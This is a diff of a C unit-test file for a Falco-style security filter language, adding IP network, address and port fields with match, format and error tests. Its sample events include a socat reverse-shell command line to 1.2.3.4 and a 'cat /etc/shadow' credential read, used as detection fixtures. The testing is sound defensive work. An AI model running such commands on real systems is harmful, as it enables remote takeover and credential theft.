@@ -4,20 +4,32 @@
  * table can hold, so that each kind is tested whatever fields the table
  * holds: an optional index and many values (as proc.aname), a required
  * text argument (as container.mount.dest[/proc]), a Falco list field,
- * and many numbers (as proc.apid). Before cmocka.h, whose fail() is a
- * macro.
+ * many numbers (as proc.apid), and the IP fields: networks and
+ * addresses of either end (fd.net, fd.ip), the server's network
+ * (fd.snet), either end's port (fd.port). Before cmocka.h, whose fail()
+ * is a macro.
  */
 #define T_ANAME (VG_F_COUNT + 0)
 #define T_MOUNT (VG_F_COUNT + 1)
 #define T_TYPES (VG_F_COUNT + 2)
 #define T_APID (VG_F_COUNT + 3)
+#define T_NET (VG_F_COUNT + 4)
+#define T_SNET (VG_F_COUNT + 5)
+#define T_IP (VG_F_COUNT + 6)
+#define T_PORT (VG_F_COUNT + 7)
 #define VG_FILTER_TEST_FIELDS						\
 	[T_ANAME] = FIELD("test.aname", VG_FILTER_STR,			\
 			  FD_ARG_OPT | FD_ARG_NUM | FD_MULTI),		\
 	[T_MOUNT] = FIELD("test.mount", VG_FILTER_STR, FD_ARG_REQ),	\
 	[T_TYPES] = FIELD("test.types", VG_FILTER_STR, FD_LIST),	\
 	[T_APID] = FIELD("test.apid", VG_FILTER_NUM,			\
-			 FD_ARG_OPT | FD_ARG_NUM | FD_MULTI),
+			 FD_ARG_OPT | FD_ARG_NUM | FD_MULTI),		\
+	[T_NET] = FIELD("test.net", VG_FILTER_STR,			\
+			FD_IPNET | FD_MULTI | FD_EITHER),		\
+	[T_SNET] = FIELD("test.snet", VG_FILTER_STR, FD_IPNET),	\
+	[T_IP] = FIELD("test.ip", VG_FILTER_STR,			\
+		       FD_IPADDR | FD_MULTI | FD_EITHER),		\
+	[T_PORT] = FIELD("test.port", VG_FILTER_NUM, FD_MULTI | FD_EITHER),
 #include "../../src/filter/filter.c"
 
 #include <setjmp.h>
@@ -1027,6 +1039,8 @@ struct lang_ev {
 	const char *types[4];  /* test.types; NULL ends, none: absent */
 	const char *mount;     /* test.mount[KEY]: KEY's value */
 	const char *mount_val;
+	const char *ip[2];     /* test.ip, test.net: client, server */
+	int64_t port[2];       /* test.port */
 };
 
 /* 0: socat run by bash under sshd; 1: cat opening /etc/shadow, which
@@ -1036,17 +1050,20 @@ static const struct lang_ev lang_evs[] = {
 	{ .type = "exec", .name = "socat",
 	  .cmdline = "socat TCP4:1.2.3.4:443 EXEC:/bin/SH",
 	  .aname = { "socat", "bash", "sshd" }, .apid = { 100, 50, 1 },
-	  .types = { "ipv4", "file" }, .mount = "/proc", .mount_val = "ro" },
+	  .types = { "ipv4", "file" }, .mount = "/proc", .mount_val = "ro",
+	  .ip = { "10.0.0.5", "1.2.3.4" }, .port = { 40000, 443 } },
 	{ .type = "open", .name = "cat", .fd_name = "/etc/shadow",
 	  .cmdline = "cat /etc/shadow", .has_res = true, .res = 3,
 	  .aname = { "cat", "sh" }, .apid = { 200, 100 }, .types = { "file" } },
 	{ .type = "open", .name = "Python3", .fd_name = "/etcx/passwd",
 	  .cmdline = "Python3 -c 'import socket'", .has_res = true, .res = -2,
-	  .aname = { "Python3" }, .apid = { 300 } },
+	  .aname = { "Python3" }, .apid = { 300 },
+	  .ip = { "::1", "0::1" }, .port = { 5000, 5001 } },
 	{ .type = "file", .action = "rename", .name = "mv",
 	  .fd_name = "/home/u/.ssh/id_rsa", .cmdline = "mv a\\ b\\",
 	  .has_res = true, .res = -115,
-	  .types = { "ipv4", "ipv6", "unix" } },
+	  .types = { "ipv4", "ipv6", "unix" },
+	  .ip = { "127.0.0.1", "127.0.0.1" }, .port = { 80, 80 } },
 };
 
 static const char *last_mount_key;
@@ -1071,7 +1088,8 @@ static int lang_get(void *ctx, int id, const char *key, size_t key_len,
 		assert_int_equal(strlen(key), key_len);
 	else
 		assert_int_equal(key_len, 0);
-	if (id != T_ANAME && id != T_APID && id != T_TYPES)
+	if (id != T_ANAME && id != T_APID && id != T_TYPES && id != T_NET &&
+	    id != T_IP && id != T_PORT)
 		assert_int_equal(i, 0);
 	if (id != T_ANAME && id != T_APID && id != T_MOUNT)
 		assert_null(key);
@@ -1102,6 +1120,14 @@ static int lang_get(void *ctx, int id, const char *key, size_t key_len,
 		return str_out(e->aname[i], ret);
 	case T_TYPES:
 		return i < 4 ? str_out(e->types[i], ret) : 0;
+	case T_NET:
+	case T_IP:
+		return i < 2 ? str_out(e->ip[i], ret) : 0;
+	case T_SNET:
+		return str_out(e->ip[1], ret);
+	case T_PORT:
+		ret->n = e->port[i < 2 ? i : 0];
+		return i < 2 && e->ip[0];
 	case T_MOUNT:
 		assert_non_null(key);
 		last_mount_key = key;
@@ -1239,6 +1265,33 @@ static const struct match_case lang_cases[] = {
 	{ "evt.type = mkdir", "0000" },
 	{ "evt.type in (file, rename)", "0001" },
 	{ "not evt.type in (rename) and proc.name = mv", "0000" },
+	/* IP networks and addresses, either end of a connection */
+	{ "test.net = \"10.0.0.0/8\"", "1000" },
+	{ "test.net = 10.200.1.1/8", "1000" },
+	{ "test.net != \"127.0.0.0/8\"", "1010" },
+	{ "not test.net = \"127.0.0.0/8\"", "1110" },
+	{ "test.net in (\"192.168.0.0/16\", \"1.2.0.0/16\")", "1000" },
+	{ "test.net intersects (127.0.0.0/8)", "0001" },
+	{ "test.snet in (\"10.0.0.0/8\", \"172.16.0.0/12\", \"192.168.0.0/16\")", "0000" },
+	{ "test.snet = 1.2.3.0/24", "1000" },
+	{ "test.snet = 1.2.3.0/25", "1000" },
+	{ "test.snet = 1.2.3.128/25", "0000" },
+	{ "test.snet = 1.2.3.5/31", "1000" },
+	{ "test.snet = 1.2.3.6/31", "0000" },
+	{ "test.net = ::1/128", "0010" },
+	{ "test.net = \"::/0\"", "0010" },
+	{ "test.net = 0.0.0.0/0", "1001" },
+	{ "test.net = 1.2.3.4", "1000" },
+	{ "test.net exists", "1011" },
+	{ "test.ip = 1.2.3.4", "1000" },
+	{ "test.ip != \"0.0.0.0\"", "1011" },
+	{ "test.ip != 127.0.0.1", "1010" },
+	{ "test.ip = \"0:0::1\"", "0010" },
+	{ "test.ip in (127.0.0.1, ::1)", "0011" },
+	{ "test.port = 443", "1000" },
+	{ "test.port != 443", "0011" },
+	{ "test.port > 1024", "1010" },
+	{ "test.port in (80, 5001)", "0011" },
 	/* numbers: hex and a sign, as Falco's */
 	{ "test.apid = 0x64", "1100" },
 	{ "test.apid = +50", "1000" },
@@ -1301,6 +1354,8 @@ static const struct format_case falco_format_cases[] = {
 	{ "proc.name icontains A and proc.name iglob 'x*'",
 	  "proc.name icontains A and proc.name iglob x*" },
 	{ "test.types intersects (a,b)", "test.types intersects (a, b)" },
+	{ "test.net != '127.0.0.0/8'", "test.net != 127.0.0.0/8" },
+	{ "test.ip in (\"::1\", 10.0.0.1)", "test.ip in (::1, 10.0.0.1)" },
 };
 
 static void test_falco_format(void **state)
@@ -1350,6 +1405,17 @@ static const struct error_case falco_error_cases[] = {
 	{ "test.mount[a[b]] exists", 13, "expected ']' to close the argument" },
 	{ "container.label.app[1] = x", 20, "container.label.app has its key already" },
 	{ "container.label[] = x", 16, "expected an argument between the brackets" },
+	/* IP fields */
+	{ "test.net = 1.2.3.4/33", 12, "expected an IP network (ADDRESS/BITS) or address after '=' (test.net is an IP address), found '1.2.3.4/33'" },
+	{ "test.net = ::/129", 12, "expected an IP network" },
+	{ "test.net = 10.0.0.0/", 12, "expected an IP network" },
+	{ "test.net = 10.0.0.0/+8", 12, "expected an IP network" },
+	{ "test.net in (10.0.0.0/8, bogus)", 26, "expected an IP network (ADDRESS/BITS) or address after ','" },
+	{ "test.ip = 1.2.3.0/24", 11, "expected an IP address after '=' (test.ip is an IP address)" },
+	{ "test.ip = 1.2.3", 11, "expected an IP address" },
+	{ "test.net contains 10", 10, "'contains' does not apply to test.net, an IP address compared with networks" },
+	{ "test.ip startswith 10", 9, "'startswith' does not apply to test.ip, an IP address:" },
+	{ "test.snet < 1.2.3.4", 11, "'<' does not apply to test.snet" },
 	/* operators' values */
 	{ "proc.name bcontains xyz1", 21, "expected hex digits, two a byte, after 'bcontains', found 'xyz1'" },
 	{ "proc.name bstartswith abc", 23, "expected hex digits" },
